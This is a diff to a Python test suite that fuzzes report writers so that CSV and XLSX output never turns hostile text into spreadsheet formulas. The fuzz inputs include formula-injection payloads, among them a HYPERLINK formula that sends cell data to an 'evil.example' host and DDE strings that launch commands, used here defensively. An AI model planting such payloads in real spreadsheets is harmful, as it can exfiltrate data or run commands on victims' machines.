@@ -1,16 +1,23 @@
-"""Reports that are safe to open: whatever text the input file or the API put into a report,
-no cell of ``results.csv`` or ``results.xlsx`` starts with ``=``, ``+``, ``-``, ``@``, tab or
-CR unless neutralised with a leading apostrophe, no XLSX cell is a formula, and the text is
-otherwise kept.
+"""Reports that are safe to open: whatever text the input file or the API put into any report
+file pcxbatch writes (``results.csv``/``.xlsx``, ``preview.csv``/``.xlsx``, ``undo.csv``), no
+spreadsheet runs it as a formula, and the text is otherwise kept.
+
+The rule (:mod:`pcxbatch.report.cells`): in a CSV, a text starting with ``=``, ``+``, ``-``,
+``@``, tab or CR gets a leading apostrophe; in an XLSX, every text is a string cell holding the
+text exactly (a string cell is never evaluated), and no cell is a formula.
 
 The files are read back as a user's spreadsheet would get them: the CSV with the ``csv``
-module, the XLSX with openpyxl, decoding OOXML's ``_xHHHH_`` escape as Excel does.
+module, the XLSX with openpyxl (not read-only, so a formula cell would show as one), decoding
+OOXML's ``_xHHHH_`` escape as Excel does. Texts here are short, so Excel's cell limit (tested
+in test_report.py) never cuts one.
 """
 
 from __future__ import annotations
 
 import csv
 import re
+import zipfile
+from collections.abc import Sequence
 from pathlib import Path
 
 import openpyxl
@@ -18,15 +25,23 @@ import pytest
 from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 
-from pcxbatch.model import Outcome, ReportLine
-from pcxbatch.report import RESULT_COLUMNS, report_headers, write_results
+from pcxbatch.model import Outcome, PlanRow, ReportLine, UndoRow, Verdict
+from pcxbatch.report import (
+    PREVIEW_HEADERS,
+    RESULT_COLUMNS,
+    UNDO_HEADERS,
+    report_headers,
+    write_preview,
+    write_results,
+    write_undo,
+)
 
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 _EXCEL_ESCAPE = re.compile("_x([0-9A-Fa-f]{4})_")
 # xlsxwriter escapes two _xHHHH_ sequences that share an underscore in a way Excel reads back
 # differently (see test_report.py); no real text looks like that.
 _OVERLAPPING_ESCAPES = re.compile("_x[0-9A-Fa-f]{4}(?=_x[0-9A-Fa-f]{4}_)")
-TEXT_FIELDS = ("user_id", "action", "target_status", "message", "request_id")
+HYPERLINK = '=HYPERLINK("http://evil","x")'
 
 # Texts a hostile cell or an API error page might hold: formula starts, injection payloads,
 # separators, quotes, line breaks, control characters, anything Unicode.
@@ -37,6 +52,7 @@ HOSTILE = st.one_of(
     ).map("".join),
     st.sampled_from(
         [
+            HYPERLINK,
             '=HYPERLINK("http://evil.example/?"&A1,"click")',
             "=cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -46,23 +62,46 @@ HOSTILE = st.one_of(
             "\r=1+1",
             '"=1+1"',
             "=1+1,=2+2\n=3+3",
+            "http://evil.example/",
+            "1e5",
             "_x0041_",
             "",
         ]
     ),
 )
 SETTINGS = settings(
-    max_examples=60,
+    max_examples=40,
     deadline=None,
     suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
 )
 
+Line = Sequence[str | int | None]
 
-def expected(text: str) -> str:
-    """The documented rule: a dangerous first character gets a leading apostrophe; a lone
-    surrogate (which no UTF-8 file can hold) becomes U+FFFD; nothing else changes."""
-    kept = re.sub("[\ud800-\udfff]", "\ufffd", text)
+
+def cleaned(text: str) -> str:
+    """A lone surrogate (which no UTF-8 file can hold) becomes U+FFFD."""
+    return re.sub("[\ud800-\udfff]", "\ufffd", text)
+
+
+def in_csv(value: str | int | None) -> str:
+    """What the CSV holds for a value: a dangerous start gets an apostrophe, nothing else."""
+    if value is None:
+        return ""
+    if isinstance(value, int):
+        return str(value)
+    kept = cleaned(value)
     return "'" + kept if kept.startswith(DANGEROUS) else kept
+
+
+def in_xlsx(value: str | int | None) -> str | int | None:
+    """What the XLSX holds for a value: the text exactly (empty: no cell), or the number."""
+    if isinstance(value, str):
+        return cleaned(value) or None
+    return value
+
+
+def no_overlapping_escapes(*texts: str) -> None:
+    assume(not _OVERLAPPING_ESCAPES.search("\0".join(texts)))
 
 
 def excel_text(value: object) -> object:
@@ -71,71 +110,193 @@ def excel_text(value: object) -> object:
     return value
 
 
-def assert_safe(cell: object) -> None:
-    if isinstance(cell, str):
-        assert not cell.startswith(DANGEROUS), repr(cell)
+def check_csv(path: Path, lines: Sequence[Line]) -> None:
+    """The CSV holds exactly ``lines`` under the cell rule, and no cell starts dangerously."""
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        got = list(csv.reader(fh))
+    assert got == [[in_csv(v) for v in line] for line in lines]
+    for row in got:
+        for cell in row:
+            assert not cell.startswith(DANGEROUS), repr(cell)
+
+
+def check_xlsx(path: Path, lines: Sequence[Line]) -> None:
+    """The first sheet holds ``lines`` cell for cell: texts as string cells, exactly; numbers as
+    numbers; nothing else. No sheet of the file holds a formula."""
+    want = {
+        (r, c): in_xlsx(v)
+        for r, line in enumerate(lines, start=1)
+        for c, v in enumerate(line, start=1)
+        if in_xlsx(v) is not None
+    }
+    book = openpyxl.load_workbook(path)
+    try:
+        got = {}
+        for cells in book.worksheets[0].iter_rows():
+            for cell in cells:
+                if cell.value in (None, ""):  # an empty string cell (a blank header) shows empty
+                    continue
+                assert cell.data_type != "f", f"{cell.coordinate} is a formula"
+                kind = "s" if isinstance(want.get((cell.row, cell.column)), str) else "n"
+                assert cell.data_type == kind, f"{cell.coordinate}: {cell.data_type!r}"
+                got[(cell.row, cell.column)] = excel_text(cell.value)
+    finally:
+        book.close()
+    assert got == want
+    with zipfile.ZipFile(path) as zf:
+        for name in zf.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert not re.search(rb"<f[ >]", zf.read(name)), f"{name} holds a formula"
+
+
+# --- results.csv / results.xlsx ----------------------------------------------------------------
+
+RESULT_TEXT_FIELDS = ("user_id", "action", "target_status", "message", "request_id")
 
 
 @SETTINGS
 @given(
-    fields=st.fixed_dictionaries({name: HOSTILE for name in TEXT_FIELDS}),
+    fields=st.fixed_dictionaries({name: HOSTILE for name in RESULT_TEXT_FIELDS}),
     columns=st.lists(HOSTILE, min_size=1, max_size=4),
     values=st.lists(HOSTILE, min_size=4, max_size=4),
 )
-def test_fuzzed_text_is_neutralised_and_otherwise_kept(
+def test_results_keep_hostile_text_as_text(
     tmp_path_factory: pytest.TempPathFactory,
     fields: dict[str, str],
     columns: list[str],
     values: list[str],
 ) -> None:
-    everything = "\0".join([*fields.values(), *columns, *values])
-    assume(not _OVERLAPPING_ESCAPES.search(everything))
+    no_overlapping_escapes(*fields.values(), *columns, *values)
     values = values[: len(columns)]
     line = ReportLine(
-        row=2,
-        outcome=Outcome.FAILED,
-        http_status=400,
-        attempts=1,
-        values=tuple(values),
-        **fields,
+        row=2, outcome=Outcome.FAILED, http_status=400, attempts=1, values=tuple(values), **fields
     )
     run_dir = tmp_path_factory.mktemp("run")
     csv_path, xlsx_path = write_results(run_dir, columns, [line], xlsx=True)
-    headers = report_headers(columns)
-    want_header = [expected(h) for h in headers]
-    want_row = [
-        "2",
-        *(expected(fields[name]) for name in ("user_id", "action", "target_status")),
-        "failed",
-        "400",
-        "1",
-        expected(fields["message"]),
-        expected(fields["request_id"]),
-        *(expected(v) for v in values),
+
+    want: list[Line] = [
+        report_headers(columns),
+        [
+            2,
+            *(fields[name] for name in ("user_id", "action", "target_status")),
+            "failed",
+            400,
+            1,
+            fields["message"],
+            fields["request_id"],
+            *values,
+        ],
     ]
+    check_csv(csv_path, want)
+    check_xlsx(xlsx_path, want)
 
-    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
-        csv_rows = list(csv.reader(fh))
-    assert csv_rows == [want_header, want_row]
-    for cell in csv_rows[0] + csv_rows[1]:
-        assert_safe(cell)
 
-    book = openpyxl.load_workbook(xlsx_path)  # not read-only: formula cells show as such
-    sheet = book.worksheets[0]
-    for cells in sheet.iter_rows():
-        for cell in cells:
-            assert cell.data_type != "f", f"{cell.coordinate} is a formula"
-            assert_safe(excel_text(cell.value))
-    xlsx_rows = [[excel_text(v) for v in row] for row in sheet.iter_rows(values_only=True)]
-    book.close()
-    assert xlsx_rows[0] == want_header
-    numbers = {0: 2, 5: 400, 6: 1}
-    assert xlsx_rows[1] == [numbers.get(i, text or None) for i, text in enumerate(want_row)]
+# --- preview.csv / preview.xlsx ----------------------------------------------------------------
+
+
+@st.composite
+def plan_rows(draw: st.DrawFn, width: int) -> PlanRow:
+    return PlanRow(
+        row=draw(st.integers(2, 10**6)),
+        user_id=draw(HOSTILE),
+        action=draw(HOSTILE),
+        target_status=draw(HOSTILE),
+        reason=draw(HOSTILE),  # not shown in a preview, but hostile all the same
+        updated_by=draw(HOSTILE),
+        seen_status=draw(st.one_of(st.none(), HOSTILE)),
+        verdict=draw(st.sampled_from(Verdict)),
+        message=draw(HOSTILE),
+        values=tuple(draw(st.lists(HOSTILE, min_size=width, max_size=width))),
+    )
+
+
+@SETTINGS
+@given(
+    title=HOSTILE,
+    columns=st.lists(HOSTILE, min_size=1, max_size=3),
+    data=st.data(),
+    counts=st.dictionaries(st.sampled_from([v.value for v in Verdict]), st.integers(0, 10**6)),
+    moves=st.lists(st.tuples(HOSTILE, HOSTILE, st.integers(1, 10**6)), max_size=3),
+)
+def test_preview_keeps_hostile_text_as_text_in_every_part(
+    tmp_path_factory: pytest.TempPathFactory,
+    title: str,
+    columns: list[str],
+    data: st.DataObject,
+    counts: dict[str, int],
+    moves: list[tuple[str, str, int]],
+) -> None:
+    rows = data.draw(st.lists(plan_rows(len(columns)), min_size=1, max_size=3))
+    texts = [title, *columns, *(a + "\0" + b for a, b, _ in moves)]
+    for r in rows:
+        texts += [r.user_id, r.action, r.target_status, r.seen_status or "", r.message, *r.values]
+    no_overlapping_escapes(*texts)
+    run_dir = tmp_path_factory.mktemp("run")
+    csv_path, xlsx_path = write_preview(
+        run_dir, columns, iter(rows), title=title, counts=counts, transitions=moves, xlsx=True
+    )
+    assert [csv_path.name, xlsx_path.name] == ["preview.csv", "preview.xlsx"]
+
+    want: list[Line] = [
+        [title],
+        *([v.value, counts.get(v.value, 0)] for v in Verdict),
+        *([f"{a} -> {b}", n] for a, b, n in moves),
+        [],
+        [*PREVIEW_HEADERS, *report_headers(columns)[len(RESULT_COLUMNS) :]],
+        *(
+            [
+                r.row,
+                r.user_id,
+                r.action,
+                r.seen_status or "",
+                r.target_status,
+                r.verdict.value,
+                r.message,
+                *r.values,
+            ]
+            for r in rows
+        ),
+    ]
+    check_csv(csv_path, want)
+    check_xlsx(xlsx_path, want)
+
+
+# --- undo.csv ----------------------------------------------------------------------------------
+
+
+@SETTINGS
+@given(
+    rows=st.lists(
+        st.builds(
+            UndoRow,
+            user_id=HOSTILE,
+            status=HOSTILE,
+            reason=HOSTILE,
+            updated_by=HOSTILE,
+            note=HOSTILE,
+            changed_in_row=st.integers(2, 10**6),
+        ),
+        max_size=4,
+    )
+)
+def test_undo_keeps_hostile_text_as_text(
+    tmp_path_factory: pytest.TempPathFactory, rows: list[UndoRow]
+) -> None:
+    run_dir = tmp_path_factory.mktemp("run")
+    assert write_undo(run_dir, iter(rows)) == [run_dir / "undo.csv"]
+    want: list[Line] = [
+        UNDO_HEADERS,
+        *([r.user_id, r.status, r.reason, r.updated_by, r.note, r.changed_in_row] for r in rows),
+    ]
+    check_csv(run_dir / "undo.csv", want)
+
+
+# --- each dangerous start, in every text of every file -----------------------------------------
 
 
 @pytest.mark.parametrize("prefix", DANGEROUS)
-def test_each_dangerous_start_is_neutralised_in_every_column(tmp_path: Path, prefix: str) -> None:
-    payload = prefix + "SUM(1,1)"
+def test_each_dangerous_start_is_handled_in_every_file(tmp_path: Path, prefix: str) -> None:
+    payload = prefix + 'HYPERLINK("http://evil","x")'
     line = ReportLine(
         row=2,
         user_id=payload,
@@ -148,15 +309,49 @@ def test_each_dangerous_start_is_neutralised_in_every_column(tmp_path: Path, pre
         request_id=payload,
         values=(payload,),
     )
-    csv_path, xlsx_path = write_results(tmp_path, [payload], [line], xlsx=True)
-    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
-        header, row = list(csv.reader(fh))
-    assert header[len(RESULT_COLUMNS)] == "'" + payload
-    text_cells = [c for i, c in enumerate(row) if i not in (0, 4, 5, 6)]
-    assert text_cells == ["'" + payload] * len(text_cells)
-    book = openpyxl.load_workbook(xlsx_path)
-    for cells in book.worksheets[0].iter_rows():
-        for cell in cells:
-            assert cell.data_type != "f"
-            assert_safe(excel_text(cell.value))
-    book.close()
+    plan = PlanRow(
+        row=2,
+        user_id=payload,
+        action=payload,
+        target_status=payload,
+        reason=payload,
+        updated_by=payload,
+        seen_status=payload,
+        verdict=Verdict.NOT_FOUND,
+        message=payload,
+        values=(payload,),
+    )
+    undo = UndoRow(payload, payload, payload, payload, payload, 2)
+    paths = [
+        *write_results(tmp_path, [payload], [line], xlsx=True),
+        *write_preview(
+            tmp_path,
+            [payload],
+            [plan],
+            title=payload,
+            counts={},
+            transitions=[(payload, payload, 1)],
+            xlsx=True,
+        ),
+        *write_undo(tmp_path, [undo]),
+    ]
+    assert sorted(p.name for p in paths) == [
+        "preview.csv", "preview.xlsx", "results.csv", "results.xlsx", "undo.csv"
+    ]  # fmt: skip
+    for path in paths:
+        if path.suffix == ".csv":
+            with path.open(encoding="utf-8-sig", newline="") as fh:
+                cells = [c for row in csv.reader(fh) for c in row]
+            assert "'" + payload in cells
+            assert not [c for c in cells if c.startswith(DANGEROUS)]
+            continue
+        book = openpyxl.load_workbook(path)
+        texts = []
+        for cells_ in book.worksheets[0].iter_rows():
+            for cell in cells_:
+                assert cell.data_type != "f", f"{path.name} {cell.coordinate} is a formula"
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s"
+                    texts.append(excel_text(cell.value))
+        book.close()
+        assert payload in texts and "'" + payload not in texts  # exact, no apostrophe
